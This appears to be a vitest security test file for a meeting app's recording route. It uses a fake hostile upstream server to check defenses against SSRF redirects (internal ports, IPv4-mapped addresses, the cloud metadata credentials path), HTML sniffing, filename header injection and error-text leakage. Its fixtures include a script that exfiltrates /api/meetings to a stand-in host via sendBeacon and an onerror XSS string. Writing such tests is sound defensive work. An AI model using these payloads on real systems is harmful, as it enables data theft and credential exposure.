// A hostile "Sautikit" on loopback, reached over real HTTP through the app's recording route. A
// workspace admin may point the workspace at any base URL they like; what answers there must not
// be able to steer the server elsewhere (a redirect to another port on this machine, a chain of
// redirects, an IPv4-mapped address), must not get HTML served on the app's origin, and must not
// put its own words into the app's error messages. Also: byte ranges the file host answers itself.
import http from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "@/lib/auth/actor";
import { appFixture, meetingInput } from "../support/app-fixture";
import { createPeople, signedIn } from "../reliability/support/http-client";

const SECRET = "INTERNAL-ONLY-7f3a";
const HTML = `<!doctype html><script>fetch("/api/meetings").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.test",t))</script>`;
const WAV = Buffer.concat([Buffer.from("RIFF\x24\x10\x00\x00WAVEfmt ", "latin1"), Buffer.alloc(4096 - 16, 7)]);

type Server = { url: string; port: number; hits: string[]; close(): Promise<void> };

async function serve(
  handler: (req: http.IncomingMessage, res: http.ServerResponse, self: Server) => void,
): Promise<Server> {
  const self = { hits: [] as string[] } as Server;
  const server = http.createServer((req, res) => {
    self.hits.push(`${req.method} ${req.url} ${req.headers.range ?? ""}`.trim());
    handler(req, res, self);
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  self.port = (server.address() as AddressInfo).port;
  self.url = `http://127.0.0.1:${self.port}`;
  self.close = () =>
    new Promise<void>((r) => {
      server.closeAllConnections();
      server.close(() => r());
    });
  return self;
}

const app = appFixture();
const m = app.lib;
let internal: Server;
let hostile: Server;

beforeAll(async () => {
  // Something on this machine that must stay unreachable: a database console, an admin port…
  internal = await serve((_req, res) => {
    res.writeHead(200, { "Content-Type": "text/plain" });
    res.end(SECRET);
  });
  hostile = await serve((req, res, self) => {
    const url = req.url ?? "/";
    const redirect = (to: string) => {
      res.writeHead(302, { Location: to });
      res.end();
    };
    const call = /^\/v1\/calls\/([^/]+)\/recording$/.exec(url)?.[1];
    if (call === "away") return redirect(`${internal.url}/secret`);
    if (call === "mapped") return redirect(`http://[::ffff:127.0.0.1]:${internal.port}/secret`);
    if (call === "metadata") return redirect("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
    if (call === "chain") return redirect("/hop/chain");
    if (url === "/hop/chain") return redirect(`${internal.url}/secret`);
    if (call === "loop") return redirect("/loop/1");
    const loop = /^\/loop\/(\d+)$/.exec(url);
    if (loop) return redirect(`/loop/${Number(loop[1]) + 1}`);
    if (call === "html") return redirect(`${self.url}/files/page.html`);
    if (url === "/files/page.html") {
      res.writeHead(200, {
        "Content-Type": "text/html; charset=utf-8",
        "Content-Length": String(Buffer.byteLength(HTML)),
        "Content-Disposition": "inline; filename=page.html",
      });
      return void res.end(HTML);
    }
    if (call === "ranged") return redirect(`${self.url}/files/ranged.wav?sig=1`);
    if (url === "/files/ranged.wav?sig=1") {
      // Object storage: honours Range itself.
      const m = /^bytes=(\d+)-(\d*)$/.exec(req.headers.range ?? "");
      if (!m) {
        res.writeHead(200, {
          "Content-Type": "application/octet-stream",
          "Content-Length": String(WAV.length),
          "Accept-Ranges": "bytes",
        });
        return void res.end(WAV);
      }
      const start = Number(m[1]);
      if (start >= WAV.length) {
        res.writeHead(416, { "Content-Range": `bytes */${WAV.length}` });
        return void res.end();
      }
      const end = Math.min(m[2] ? Number(m[2]) : WAV.length - 1, WAV.length - 1);
      res.writeHead(206, {
        "Content-Type": "audio/wav",
        "Content-Length": String(end - start + 1),
        "Content-Range": `bytes ${start}-${end}/${WAV.length}`,
      });
      return void res.end(WAV.subarray(start, end + 1));
    }
    // API errors whose text must never reach a user.
    if (url === "/v1/numbers") {
      res.writeHead(400, { "Content-Type": "application/json", "Request-Id": "<img src=x onerror=alert(1)>" });
      return void res.end(JSON.stringify({ error: { code: `leak ${SECRET}`, message: `m.db password is ${SECRET}` } }));
    }
    if (url === "/v1/wallet/balance") {
      res.writeHead(500, { "Content-Type": "text/html" });
      return void res.end(`<h1>${SECRET}</h1>`);
    }
    res.writeHead(404, { "Content-Type": "application/json" });
    res.end(JSON.stringify({ error: { code: "not_found", message: SECRET } }));
  });
});

afterAll(async () => {
  await hostile?.close();
  await internal?.close();
});

/**
 * Workspace A's admin, whose workspace now talks to the hostile "Sautikit", signed in over HTTP, with
 * a recording for each trick the file host plays (by call id).
 */
const given = app.given(async () => {
  const { encryptSecret } = await import("@/lib/crypto");
  const { scheduleMeeting } = await import("@/lib/meetings/schedule-meeting");
  const { adminA: admin } = await createPeople(m.db);
  const adminActor: Actor = admin;
  // The hostile admin's doing: the workspace now talks to their "Sautikit" (as saving it in
  // Settings does in local mode, where any loopback port is accepted as the emulator).
  await m.db.sautikitConnection.update({
    where: { workspaceId: admin.workspaceId },
    data: { apiBaseUrl: hostile.url, apiKeyEnc: encryptSecret("sk_hostile_1234"), mode: "live" },
  });
  const meeting = await scheduleMeeting(
    adminActor,
    meetingInput({ title: 'Board "sync"; filename=evil.html', record: true, waitForHost: false, endOnHostExit: false }),
  );
  const recordingIds = new Map<string, string>();
  for (const callId of ["away", "mapped", "metadata", "chain", "loop", "html", "ranged"]) {
    const rec = await m.db.recording.create({
      data: { workspaceId: admin.workspaceId, meetingId: meeting.id, callId },
    });
    recordingIds.set(callId, rec.id);
  }
  return { admin, adminActor, recordingIds, browser: await signedIn(app.url, admin) };
}, 60_000);

const audio = (callId: string, query = "", headers: Record<string, string> = {}) =>
  given.browser.fetch(`/api/recordings/${given.recordingIds.get(callId)}/audio${query}`, { headers });

describe("recording redirects are fenced", () => {
  it.each([
    ["away", "a redirect to another port on this machine"],
    ["mapped", "the same, written as an IPv4-mapped IPv6 address"],
    ["chain", "the same, after one allowed hop"],
  ])("%s: %s is refused and never connected to", async (callId) => {
    const res = await audio(callId);
    expect(res.status).toBe(502);
    const text = await res.text();
    expect(text).not.toContain(SECRET);
    expect((JSON.parse(text) as { error: { message: string } }).error.message).toMatch(
      /not the API's host or on SAUTIKIT_RECORDING_HOSTS/,
    );
    expect(internal.hits).toEqual([]);
  });

  it("refuses the cloud metadata address", async () => {
    const res = await audio("metadata");
    expect(res.status).toBe(502);
    expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/169\.254\.169\.254/);
  });

  it("follows a few redirects on the API's own origin, then gives up", async () => {
    const before = hostile.hits.length;
    const res = await audio("loop");
    expect(res.status).toBe(502);
    expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/too many times/);
    // The API's 302, then the Location and three more redirects: never an endless chase.
    expect(hostile.hits.slice(before)).toEqual([
      "GET /v1/calls/loop/recording",
      "GET /loop/1",
      "GET /loop/2",
      "GET /loop/3",
      "GET /loop/4",
    ]);
  });
});

describe("whatever the file host says, the browser gets audio", () => {
  it("serves an HTML answer as audio/wav that must not be sniffed, inline only as audio", async () => {
    const res = await audio("html");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("audio/wav");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("content-security-policy")).toMatch(/sandbox/);
    const disposition = res.headers.get("content-disposition")!;
    expect(disposition).toMatch(/^inline; filename="[A-Za-z0-9._-]+\.wav"; filename\*=UTF-8''[A-Za-z0-9._%-]+\.wav$/);
    expect(disposition).not.toMatch(/evil\.html"|page\.html/);
    expect(res.headers.get("content-length")).toBe(String(Buffer.byteLength(HTML)));
    expect(await res.text()).toBe(HTML);

    const dl = await audio("html", "?download=1");
    expect(dl.headers.get("content-type")).toBe("audio/wav");
    expect(dl.headers.get("content-disposition")).toMatch(
      /^attachment; filename="Board-sync-filenameevil.html-\d{4}-\d\d-\d\d\.wav"/,
    );
    await dl.body?.cancel();
  });
});

describe("byte ranges the file host answers itself", () => {
  it("forwards the range and passes a consistent 206 on", async () => {
    const before = hostile.hits.length;
    const res = await audio("ranged", "", { range: "bytes=100-199" });
    expect(res.status).toBe(206);
    expect(res.headers.get("content-range")).toBe(`bytes 100-199/${WAV.length}`);
    expect(res.headers.get("content-length")).toBe("100");
    expect(res.headers.get("accept-ranges")).toBe("bytes");
    expect(res.headers.get("content-type")).toBe("audio/wav");
    expect(Buffer.from(await res.arrayBuffer())).toEqual(WAV.subarray(100, 200));
    expect(hostile.hits.slice(before)).toEqual([
      "GET /v1/calls/ranged/recording",
      "GET /files/ranged.wav?sig=1 bytes=100-199",
    ]);
  });

  it("answers 416 with the length when the range is past the end", async () => {
    const res = await audio("ranged", "", { range: `bytes=${WAV.length}-` });
    expect(res.status).toBe(416);
    expect(res.headers.get("content-range")).toBe(`bytes */${WAV.length}`);
    await res.body?.cancel();
  });

  it("serves the whole file with its length when no range is asked", async () => {
    const res = await audio("ranged");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-length")).toBe(String(WAV.length));
    expect(res.headers.get("accept-ranges")).toBe("bytes");
    expect(res.headers.get("content-type")).toBe("audio/wav");
    expect(Buffer.from(await res.arrayBuffer())).toEqual(WAV);
  });
});

describe("connection errors say what to fix and never echo the other side", () => {
  it("a test of the hostile connection reports no upstream text", async () => {
    const { testConnection } = await import("@/lib/sautikit/manage-connection");
    const err = (await testConnection(given.adminActor).then(
      () => {
        throw new Error("expected a failure");
      },
      (e: unknown) => e,
    )) as { message: string; requestId?: string; details?: unknown };
    expect(err.message).toMatch(/Sautikit/);
    expect(`${err.message} ${err.requestId ?? ""} ${JSON.stringify(err.details)}`).not.toMatch(
      new RegExp(`${SECRET}|<img|<h1>`),
    );
    const row = await m.db.sautikitConnection.findUniqueOrThrow({ where: { workspaceId: given.admin.workspaceId } });
    expect(row.lastError).not.toContain(SECRET);
  });

  it("a port with nothing behind it is a clear 'could not be reached', naming only the address typed", async () => {
    const { saveConnection } = await import("@/lib/sautikit/manage-connection");
    const closed = await serve(() => undefined);
    await closed.close();
    await expect(
      saveConnection(given.adminActor, { apiBaseUrl: closed.url, apiKey: "sk_test_12345678" }),
    ).rejects.toMatchObject({
      code: "SAUTIKIT_UNAVAILABLE",
      message: `Sautikit could not be reached at 127.0.0.1:${closed.port}. Check the API base URL, or try again shortly.`,
    });
  });
});
